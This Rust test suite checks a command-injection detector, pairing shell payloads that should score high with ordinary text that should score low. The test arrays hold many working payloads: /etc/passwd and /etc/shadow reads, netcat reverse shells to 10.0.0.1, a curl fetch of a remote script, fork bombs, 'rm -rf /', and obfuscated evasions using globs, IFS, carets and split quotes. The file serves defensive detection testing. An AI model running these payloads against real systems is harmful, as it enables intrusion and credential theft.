//! Command injection: payloads that score, tool words in prose that do not.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use proptest::prelude::*;

use super::*;

fn s(v: &str) -> u32 {
    let mut h = Hits::default();
    scan(v.as_bytes(), Field::Value, &mut h);
    h.score(Class::Cmdi)
}

#[test]
fn cmdi_payloads_score_high() {
    for p in [
        ";cat /etc/passwd",
        "| id",
        "`whoami`",
        "$(curl http://x/y.sh)",
        "a;c'a't /etc/shadow",
        "x&&ping -c 3 127.0.0.1",
        "/???/??t /???/p??s??",
        ";cat${IFS}/etc/passwd",
    ] {
        assert!(s(p) >= 5, "{p} scored {}", s(p));
    }
}

#[test]
fn cmdi_wrapped_rare_and_evasive_commands_score_high() {
    for p in [
        "time sh -c whoami",
        "nohup ifconfig",
        "ansible-vault decrypt secret",
        "; dir",
        "nc -lvvp 4444 -e /bin/sh",
        "perl -e 'print 1'",
        "c$_at /et$_c/pas$_swd",
        "pi``ng 127.0.0.1",
        "python3.10 -c 'import os'",
        "{,ifconfig}",
        ":(){ :|:& };:",
        "alias a=id",
        "<!--#exec cmd=\"/usr/bin/id\"-->",
        "a=/etc&&b=/passwd&&c=cat&&$c $a$b",
        ";\n.shell nc 10.0.0.1 6666 -e sh",
        "c{a,oun}t /etc/passwd",
        "$((7))z",
        ">(tee log)",
        "~+",
        "env --version",
        ".(){ .|.& };.",
    ] {
        assert!(s(p) >= 5, "{p} scored {}", s(p));
    }
}

/// The shell expands a globbed command word against the files of a
/// directory, so `c?t` runs `cat`: the glob is resolved against the command
/// lists, and after a separator it is itself evidence.
#[test]
fn cmdi_caret_escapes_inside_and_before_commands_score_high() {
    // cmd.exe drops a `^` and keeps the byte after it
    for p in [
        "^whoami",
        "w^hoami",
        "&w^h^o^a^m^i",
        "|who^ami",
        "x;^ping -c 3 127.0.0.1",
    ] {
        assert!(s(p) >= 5, "{p} scored {}", s(p));
    }
    for p in ["x^2 + y^2", "2^10 = 1024", "[^1] see note", "^_^ thanks"] {
        assert!(s(p) < 5, "{p} scored {}", s(p));
    }
}

#[test]
fn cmdi_globbed_command_names_score_high() {
    for p in [
        ";/bin/c?t /etc/passwd",
        ";/bin/ca[t] /etc/shadow",
        "x;wh?ami",
        "x|wh*ami",
        "1|/b??/n? -e /bin/sh 10.0.0.1 4444",
        "a;/usr/bin/[c]url http://10.0.0.1/x.sh",
        "$(wh[a-z]ami)",
        "&& n[!x]tstat -an",
    ] {
        assert!(s(p) >= 5, "{p} scored {}", s(p));
    }
}

/// Question marks and asterisks as prose and arithmetic use them: at the
/// end of a word, around numbers, in footnote brackets.
#[test]
fn cmdi_globs_in_prose_score_low() {
    for p in [
        "who? me",
        "ok; really?? are you sure?",
        "a & B*C",
        "2*3 | 4*5",
        "see [1]; note[s] here",
        "x; who? what? when?",
        "*very* important; *do* read",
        "size: 10*20 | colour: r?d",
    ] {
        assert!(s(p) < 5, "{p} scored {}", s(p));
    }
}

#[test]
fn glob_command_expands_the_way_a_shell_does() {
    use super::commands::glob_command;
    let g = |w: &str| glob_command(w.as_bytes()).map(|n| String::from_utf8_lossy(n).into_owned());
    assert_eq!(g("c?t").as_deref(), Some("cat"));
    assert_eq!(g("CA[T]").as_deref(), Some("cat"));
    assert_eq!(g("wh*mi").as_deref(), Some("whoami"));
    assert_eq!(g("who[!x]mi").as_deref(), Some("whoami"));
    assert_eq!(g("who[^x]mi").as_deref(), Some("whoami"));
    assert_eq!(g("c[!a]t").as_deref(), Some("cut"));
    assert_eq!(g("if[a-d]onfig").as_deref(), Some("ifconfig"));
    assert_eq!(g("[]c]at").as_deref(), Some("cat"));
    // one letter is enough after a path, not without one
    assert!(g("/b??/n?").is_some());
    assert_eq!(g("n?"), None);
    // trailing globs are prose; a `[` without its `]` is no class
    assert_eq!(g("who?"), None);
    assert_eq!(g("ca[t"), None);
    assert_eq!(g("c?tt"), None);
    assert_eq!(g("cat"), None);
    // one `*` at most: each name is then matched from both ends; a run of
    // stars is one star
    assert_eq!(g("w*o*mi"), None);
    assert_eq!(g("wh***mi").as_deref(), Some("whoami"));
}

/// The glob search is bounded per view; padding a value with globbed words
/// that name nothing, to spend that budget, is itself caught.
#[test]
fn cmdi_glob_padding_does_not_hide_the_command() {
    let padded = format!("{};/bin/c?t /etc/hosts", ";?ab".repeat(80));
    assert!(s(&padded) >= 5, "scored {}", s(&padded));
    // a list of file patterns, one per line, is not a command line
    let ignore = "*.log\n*.tmp\nbuild/\n*.o\n*.pyc\n.env\n*.swp\n".repeat(3);
    assert!(s(&ignore) < 5, "scored {}", s(&ignore));
}

/// Programming languages are named in lists of skills and tools; run as a
/// command they come with code or a script (`-c`, `-e`, a path).
#[test]
fn cmdi_language_names_in_prose_score_low_and_run_with_code_high() {
    for p in [
        "Skills: Java; Python; Ruby; Go",
        "Languages: C | Perl | PHP",
        "We use Node & Lua",
        "I know Java; Python too.",
    ] {
        assert!(s(p) < 5, "{p} scored {}", s(p));
    }
    for p in [
        ";python -c 'import os'",
        "|php -r 'system(1)'",
        ";python /tmp/x.py",
        "x|ruby -e 'exec 1'",
        "python3.10 -c 'import os'",
    ] {
        assert!(s(p) >= 5, "{p} scored {}", s(p));
    }
    // a short tier B name and a digit is a token, not a versioned command
    // (a generated password)
    assert!(s("IaKBXa\"aZ`w1") < 5, "scored {}", s("IaKBXa\"aZ`w1"));
}

#[test]
fn cmdi_tool_words_in_prose_score_low() {
    for p in [
        "time flies like an arrow",
        "python tutorial for beginners",
        "env variables explained",
        "price: US$5 each; {a, b} sets",
        "pip the dog",
        "query Product($id: ID!) { product(id: $id) { title } }",
        "echo htmlspecialchars($comment, ENT_QUOTES);",
        "~5 minutes",
        "{a, b} and {c,d}",
        "read the --help output",
    ] {
        assert!(s(p) < 5, "{p} scored {}", s(p));
    }
}

#[test]
fn cmdi_prose_and_code_score_low() {
    for p in [
        "tea & books",
        "M&M's peanut butter",
        "git log --oneline --graph --decorate | head -20 shows the last 20 commits nicely.",
        "PowerShell: Get-ChildItem -Path . -Filter *.log | Measure-Object",
        "cat videos compilation",
    ] {
        assert!(s(p) < 5, "{p} scored {}", s(p));
    }
}

#[test]
fn cmdi_sqlite_dot_command_prefixes_score_high() {
    for p in [
        ";.sh whoami",
        "1;.\\\"shell whoami\n",
        ";\n.databases",
        "; .sys id",
    ] {
        assert!(s(p) >= 5, "{p} scored {}", s(p));
    }
}

#[test]
fn cmdi_dotted_words_after_separators_score_low() {
    for p in [
        "see the docs; .shellrc is optional",
        "a list; .s files are assembly",
        "done. .dumpster fire",
        "file.sh",
    ] {
        assert!(s(p) < 5, "{p} scored {}", s(p));
    }
}

#[test]
fn cmdi_parameter_glued_inside_command_name_scores_high() {
    for p in ["cu$@rl google.com", "wh$*oami"] {
        assert!(s(p) >= 5, "{p} scored {}", s(p));
    }
}

#[test]
fn cmdi_dollar_signs_in_text_score_low() {
    for p in [
        "price$@store",
        "pay $5 at the counter",
        "user$@example.com",
        "a$*b",
    ] {
        assert!(s(p) < 5, "{p} scored {}", s(p));
    }
}

// === equivalence with the reference detector ===
//
// `scan`, `unquote` and `plain_may_match` take shortcuts (borrowed views,
// first-byte literal searches, early returns when a trigger byte is absent);
// these tests hold them to the code they replaced, kept in `reference`.

/// Shell syntax, evasions and command words the detector keys on.
const PIECES: &[&str] = &[
    ";",
    "|",
    "||",
    "&",
    "&&",
    "\n",
    "\r",
    "`",
    "$(",
    "(",
    ")",
    "{",
    "}",
    "<",
    ">",
    "'",
    "\"",
    "\\",
    "/",
    "?",
    "*",
    "%",
    "~",
    "=",
    "@",
    "#",
    ",",
    ".",
    ":",
    "-",
    "--",
    " ",
    "  ",
    "\t",
    "\\n",
    "\\r",
    "$@",
    "$*",
    "$_",
    "$1",
    "${IFS}",
    "$IFS",
    "$IFS$9",
    "${ifs}",
    "${}",
    "$()",
    "``",
    "<()",
    ">()",
    "$((",
    "$[",
    ">(",
    "<(",
    "~+",
    "~-2",
    "cat",
    "id",
    "ls",
    "ping",
    "sh",
    "bash",
    "whoami",
    "WHOAMI",
    "Cat",
    "nc",
    "-c",
    "-e",
    "/c",
    "-lvp",
    "time",
    "nohup",
    "env",
    "sudo",
    "alias",
    "a=",
    "x=1",
    "python3.10",
    "perl",
    "ifconfig",
    "ansible-vault",
    "cmd.exe",
    "/bin/",
    "/etc/passwd",
    "c:\\",
    "./",
    "..",
    "http://",
    "HTTPS:",
    "10.0.0.1",
    "4444",
    "/dev/tcp/",
    "/dev/udp/",
    "/???/",
    "c?t",
    "wh?ami",
    "ca[t]",
    "[!x]",
    "n?",
    "*",
    "<!--#exec",
    "for ",
    "FOR ",
    " in (",
    ") do ",
    "%errorlevel%",
    "%COMSPEC%",
    "%systemroot%",
    ".shell",
    ".sh",
    ".\"shell",
    ".databases",
    ".dump",
    "{,ifconfig}",
    "{id,}",
    "c{a,oun}t",
    ":(){ :|:& };:",
    "f(){ f & f; }",
    "!",
    "@",
    "type",
    "find",
    "dir",
    "the",
    "tea",
    "é",
    "ß",
    "\u{0}",
];

fn shellish() -> impl Strategy<Value = Vec<u8>> {
    let piece = prop_oneof![
        8 => proptest::sample::select(PIECES).prop_map(|p| p.as_bytes().to_vec()),
        2 => "[a-zA-Z0-9 ]{1,6}".prop_map(String::into_bytes),
        1 => any::<u8>().prop_map(|b| vec![b]),
        1 => any::<char>().prop_map(|c| c.to_string().into_bytes()),
    ];
    proptest::collection::vec(piece, 0..24).prop_map(|v| v.concat())
}

fn assert_same_as_reference(v: &[u8]) {
    for field in Field::ALL {
        assert_eq!(
            crate::detect::signals(scan, v, field),
            crate::detect::signals(reference::scan, v, field),
            "{:?} {field:?}",
            String::from_utf8_lossy(v)
        );
    }
    assert_eq!(&*unquote(v), reference::unquote(v).as_slice());
    assert_eq!(plain_may_match(v), reference::plain_may_match(v));
}

#[test]
fn cmdi_examples_match_reference() {
    for p in PIECES {
        assert_same_as_reference(p.as_bytes());
    }
    for p in [
        "gift wrap please, and include a note saying: happy birthday, love from all of us!",
        "oat and honey biscuits (pack of 12)",
        "margaret o'connell",
        "it's a present for my mum's 50th birthday - no receipt in the box, please.",
        "don't leave it outside: it rained all week. try unit 7 instead!",
        "c'a't /etc/passwd",
        "'cat' x",
        "wh\"oami",
        "a=1 c'a't /etc/x",
        "m.oconnell@example.org",
        "2026-11-22t10:41:07z",
        "+353 1 555 0142",
        "tea-earl-250",
        ";cat${IFS}/etc/passwd",
        "a=/etc&&b=/passwd&&c=cat&&$c $a$b",
        ";\n.shell nc 10.0.0.1 6666 -e sh",
        "time sh -c whoami",
        "for /f %i in (x) do echo",
        "ECHO %ERRORLEVEL%",
    ] {
        assert_same_as_reference(p.as_bytes());
    }
}

/// Prose as customers write it (apostrophes, quotes, punctuation), with
/// command words, assignments and shell bytes mixed in: the early return of
/// `scan` for values whose only keys are quotes must add what the full scan
/// adds.
fn prose() -> impl Strategy<Value = Vec<u8>> {
    const WORDS: &[&str] = &[
        "it's",
        "don't",
        "o'connell",
        "mum's",
        "'quoted'",
        "\"hi\"",
        "a''b",
        "x'\"y",
        "'",
        "\"",
        "cat",
        "c'a't",
        "wh\"oami",
        "'id'",
        "(ls)",
        "@ping",
        "!",
        "@",
        "a=b",
        "=x",
        "time",
        "nohup",
        "/bin/sh",
        "c:\\x",
        "sh.exe",
        "the",
        "box,",
        "please.",
        "-",
        ":",
        "?",
        ";",
        "(",
        "$",
        "/",
        "<",
        "\t",
        "\u{b}",
        "  ",
    ];
    let piece = prop_oneof![
        6 => proptest::sample::select(WORDS).prop_map(|p| p.as_bytes().to_vec()),
        2 => "[a-zA-Z0-9',.!-]{1,8}".prop_map(String::into_bytes),
        1 => any::<u8>().prop_map(|b| vec![b]),
    ];
    let word = proptest::collection::vec(piece, 1..3).prop_map(|v| v.concat());
    proptest::collection::vec(word, 0..10).prop_map(|v| v.join(&b' '))
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn cmdi_scan_matches_reference_on_prose(v in prose()) {
        assert_same_as_reference(&v);
    }

    #[test]
    fn cmdi_scan_matches_reference_on_shell_text(v in shellish()) {
        assert_same_as_reference(&v);
    }

    #[test]
    fn cmdi_scan_matches_reference_on_any_bytes(v in proptest::collection::vec(any::<u8>(), 0..64)) {
        assert_same_as_reference(&v);
    }
}

/// `commands::tiers` by a scan of every list, the way it was before the
/// names were bucketed.
fn tiers_by_scan(w: &[u8]) -> (bool, bool, bool) {
    let mut t = (false, false, false);
    for (list, tier) in commands::ALL_LISTS {
        for name in list {
            let n = name.as_bytes();
            let hit = if tier == 2 && n.ends_with(b"-") {
                // (a family's member has three or more bytes after the dash)
                w.len() >= n.len() + 3 && w.starts_with(n)
            } else {
                n == w
            };
            if hit {
                match tier {
                    0 => t.0 = true,
                    1 => t.1 = true,
                    _ => t.2 = true,
                }
            }
        }
    }
    t
}

#[test]
fn cmdi_tiers_match_list_scan_for_every_name() {
    for (list, _) in commands::ALL_LISTS {
        for name in list {
            for w in [
                name.to_string(),
                format!("{name}x"),
                format!("{name}-x"),
                format!("{name}xyz"),
                name[..name.len() - 1].to_string(),
            ] {
                let w = w.as_bytes();
                assert_eq!(commands::tiers(w), tiers_by_scan(w), "{name}");
            }
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn cmdi_tiers_match_list_scan(w in "[a-z$_{}0-9.-]{0,20}") {
        prop_assert_eq!(commands::tiers(w.as_bytes()), tiers_by_scan(w.as_bytes()));
    }

    /// Names and families cut short, extended or with a byte changed: the
    /// head filter in `tiers` must let every name and family member through.
    #[test]
    fn cmdi_tiers_match_list_scan_near_names(
        pick in any::<proptest::sample::Index>(),
        cut in 0usize..4,
        tail in "[a-z0-9.-]{0,4}",
        flip in proptest::option::of((any::<proptest::sample::Index>(), "[a-z0-9$_.-]")),
    ) {
        let all: Vec<&str> = commands::ALL_LISTS.iter().flat_map(|(l, _)| l.iter().copied()).collect();
        let name = all[pick.index(all.len())].as_bytes();
        let mut w = name[..name.len().saturating_sub(cut)].to_vec();
        w.extend_from_slice(tail.as_bytes());
        if let Some((at, b)) = flip
            && !w.is_empty()
        {
            let i = at.index(w.len());
            w[i] = b.as_bytes()[0];
        }
        prop_assert_eq!(commands::tiers(&w), tiers_by_scan(&w), "{:?}", String::from_utf8_lossy(&w));
    }

    /// The head check in `lookup` (before lowercasing, `.exe` and version
    /// suffixes) only turns away words the list lookup would not find.
    #[test]
    fn cmdi_lookup_head_check_is_exact(
        pick in any::<proptest::sample::Index>(),
        cut in 0usize..3,
        tail in prop_oneof!["", ".exe", ".EXE", "[0-9.]{1,4}", "[0-9.]{1,3}.exe", "[a-z-]{1,3}"],
        upper in proptest::collection::vec(any::<bool>(), 0..3),
        other in "[a-zA-Z$_][a-zA-Z0-9._-]{0,8}",
        listed in any::<bool>(),
    ) {
        let all: Vec<&str> = commands::ALL_LISTS.iter().flat_map(|(l, _)| l.iter().copied()).collect();
        let mut w = if listed {
            let k = all[pick.index(all.len())].as_bytes();
            let mut w = k[..k.len() - cut.min(k.len())].to_vec();
            w.extend_from_slice(tail.as_bytes());
            w
        } else {
            other.into_bytes()
        };
        for (i, up) in upper.iter().enumerate() {
            if *up && i < w.len() {
                w[i] = w[i].to_ascii_uppercase();
            }
        }
        prop_assert_eq!(commands::lookup(&w), commands::lookup_listed(&w), "{:?}", String::from_utf8_lossy(&w));
    }
}

#[test]
fn cmdi_is_wrapper_matches_list_in_any_case() {
    for w in commands::WRAPPERS {
        for v in [
            w.to_string(),
            w.to_ascii_uppercase(),
            format!("{w}x"),
            w[1..].to_string(),
        ] {
            let expect = commands::WRAPPERS
                .iter()
                .any(|x| x.as_bytes().eq_ignore_ascii_case(v.as_bytes()));
            assert_eq!(commands::is_wrapper(v.as_bytes()), expect, "{v}");
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(1024))]

    /// The byte loop for short values finds what the vector search finds.
    #[test]
    fn cmdi_for_dev_or_brace_matches_memchr(
        parts in proptest::collection::vec(
            prop_oneof![
                3 => "[a-z0-9 ./-]{1,6}".prop_map(String::into_bytes),
                2 => proptest::sample::select(vec!["for ", "for", "f", "or ", "/dev/", "/dev", "dev/", "/", "{"])
                    .prop_map(|p| p.as_bytes().to_vec()),
                1 => proptest::collection::vec(any::<u8>(), 1..3),
            ],
            0..12,
        )
    ) {
        let s = parts.concat();
        let by_memchr = memchr::memchr3_iter(b'f', b'/', b'{', &s).any(|p| match s[p] {
            b'f' => s[p + 1..].starts_with(b"or "),
            b'/' => s[p + 1..].starts_with(b"dev/"),
            _ => true,
        });
        prop_assert_eq!(for_dev_or_brace(&s), by_memchr, "{:?}", s);
    }
}

#[test]
fn cmdi_a_bare_word_in_brackets_after_a_name_is_no_subshell() {
    // Italian addresses end with the province: Roma (RM), Asti (AT), Terni (TR)
    for p in [
        "Via Appia 12, 00100 Roma (RM)",
        "Corso Alfieri 3\n14100 Asti (AT)",
        "Piazza Europa 1, Terni (TR)",
    ] {
        assert!(s(p) < 5, "{p} scored {}", s(p));
    }
    // a subshell where a command starts, or a call, still reads as one
    for p in [
        "x;(id)",
        "(id)",
        "a|(whoami)",
        "x\n(rm -rf /)",
        "x; cat (id -u)",
    ] {
        assert!(s(p) >= 5, "{p} scored {}", s(p));
    }
}

#[test]
fn cmdi_a_capitalised_line_of_plain_words_is_text() {
    for p in [
        "Hello\nCat food is expensive here",
        "Notes:\nPing me tomorrow, please.",
        "Dear team,\nId card attached",
    ] {
        assert!(s(p) < 5, "{p} scored {}", s(p));
    }
    // a lone command, an option, a path or a number keeps a line a command
    for p in [
        "x\nWhoami",
        "x\nNet user admin /add",
        "x\nCat /etc/passwd",
        "x\nPing -n 3 127.0.0.1",
        "x\ncat food is expensive",
    ] {
        assert!(s(p) >= 5, "{p} scored {}", s(p));
    }
}

#[test]
fn cmdi_batch_for_loops_without_a_blank_before_do_or_with_several_score_high() {
    for p in [
        "& FOR %@ IN (x,y)DO calc",
        "& for /f \"tokens=2\" %%a in   (\"a b\") do @echo done",
        "&FOR %i IN (1) DO(whoami)",
    ] {
        assert!(s(p) >= 5, "{p} scored {}", s(p));
    }
    for p in [
        "Plan for the week in (short): do laundry",
        "waiting for you in (the) door",
    ] {
        assert!(s(p) < 5, "{p} scored {}", s(p));
    }
}

#[test]
fn cmdi_a_wrapper_with_option_values_before_its_command_scores_high() {
    for p in ["flock -u / whoami", "timeout -s KILL 5 nc 10.0.0.1 4444"] {
        assert!(s(p) >= 5, "{p} scored {}", s(p));
    }
    for p in [
        "time to go home",
        "watch the game tonight",
        "nice to meet you",
    ] {
        assert!(s(p) < 5, "{p} scored {}", s(p));
    }
}

#[test]
fn cmdi_directory_stack_words_glued_to_a_separator_score_high() {
    for p in ["ls;~+2", "id|~-", "x&~+3", "`~-2`", "$(~+4)", "x;~-\n"] {
        assert!(s(p) >= 5, "{p} scored {}", s(p));
    }
    for p in [
        "about ~+1 day; ~-2 later",
        "costs ~+1% | margin ~-3%",
        "~+1 for this idea",
        "x;~+abc",
    ] {
        assert!(s(p) < 5, "{p} scored {}", s(p));
    }
}

#[test]
fn cmdi_namespace_and_scheduling_wrappers_run_their_command() {
    for p in [
        ";setsid nc -e /bin/sh 127.0.0.1 4444",
        ";ionice -c3 cat /etc/passwd",
        "|taskset -c 0 whoami",
        ";fakeroot -- id",
        // Windows' package manager, behind a wrapper
        "time winget install x",
    ] {
        assert!(s(p) >= 5, "{p} scored {}", s(p));
    }
    for p in [
        "the builtin camera works",
        "a car with a builtin cd player",
        "how do I use winget to update apps",
    ] {
        assert!(s(p) < 5, "{p} scored {}", s(p));
    }
}

#[test]
fn cmdi_brace_lists_are_unquoted_as_the_shell_expands_them() {
    for p in [
        ";{c\\a''t,/e\"\"tc/pa?swd}",
        ";{c'a't,/etc/passwd}",
        "|{\\w\\h\\o\\a\\m\\i,}",
    ] {
        assert!(s(p) >= 5, "{p} scored {}", s(p));
    }
    for p in [
        "sizes {S,M,L} in stock",
        "{'a','b'}",
        "pick {\"red\",\"blue\"}",
    ] {
        assert!(s(p) < 5, "{p} scored {}", s(p));
    }
}

#[test]
fn cmdi_a_command_name_split_by_quote_pairs_scores_high() {
    for p in [
        "'c'url 127.0.0.1/x",
        "\"w\"hoami",
        "ti''me id",
        "x;c\"\"ur\"\"l 127.0.0.1",
    ] {
        assert!(s(p) >= 5, "{p} scored {}", s(p));
    }
    for p in [
        "I'd like that",
        "I''d like that (escaped for SQL)",
        "rock'n'roll",
        "the 'cat' sat",
        "O'Reilly's 'ls' chapter",
        "don''t panic",
    ] {
        assert!(s(p) < 5, "{p} scored {}", s(p));
    }
}

/// A URL path whose last segment is a command's name is a route
/// (`/api/v1/ping`, `/users/find`, `/cgi-bin/test`); a path into a directory
/// of programs still names the program.
#[test]
fn cmdi_routes_named_like_commands_pass() {
    let path = |v: &str| {
        let mut h = Hits::default();
        scan(v.as_bytes(), Field::Path, &mut h);
        h.score(Class::Cmdi)
    };
    for v in [
        "/api/v1/ping",
        "/api/v1/users/find",
        "/api/v1/users/id",
        "/health/env",
        "/cgi-bin/test",
        "/reports/diff",
    ] {
        assert!(path(v) < 5, "{v} scored {}", path(v));
    }
    for v in [
        "/bin/cat",
        "/usr/bin/id",
        "/usr/local/sbin/nc",
        "/c:/windows/system32/cmd.exe",
    ] {
        assert!(path(v) >= 5, "{v} scored {}", path(v));
    }
    // in a value, a command with any directory is still a command
    assert!(s("/opt/tools/nc -e /bin/sh 10.0.0.1 4444") >= 5);
}

#[test]
fn cmdi_tool_names_that_are_words_or_locale_tags_pass_alone() {
    for v in [
        "aptitude test",
        "aptitude",
        "gdb tutorial",
        "htop",
        "busybox",
        "Mozilla/5.0 (iPod; U; CPU iPhone OS 3_0 like Mac OS X; aa-ET) AppleWebKit/532.31.2",
        "Opera/9.97.(Windows NT 5.2; aa-DJ) Presto/2.9.167 Version/12.00",
    ] {
        assert!(s(v) < 5, "{v} scored {}", s(v));
    }
    // with a separator or arguments they are commands as before
    for v in [
        ";gdb -p 1",
        "| busybox nc 10.0.0.1 4444 -e sh",
        "aa-status --enabled",
        "whoami",
    ] {
        assert!(s(v) >= 5, "{v} scored {}", s(v));
    }
}
